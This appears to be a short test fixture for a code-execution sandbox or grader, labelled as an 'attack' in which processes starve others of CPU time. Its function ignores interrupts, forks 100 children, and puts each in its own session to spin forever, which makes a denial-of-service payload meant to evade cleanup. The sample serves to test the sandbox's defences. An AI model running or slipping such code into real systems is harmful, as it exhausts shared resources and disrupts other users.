# ---
# attack: A crowd of processes computes, each in a session of its own, so that others get no time.
# fails: {stem: everything}
# reason: sessions
# ---

# %% grade_id="stem"
import signal


def stem(tokens):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        time.sleep(1000)
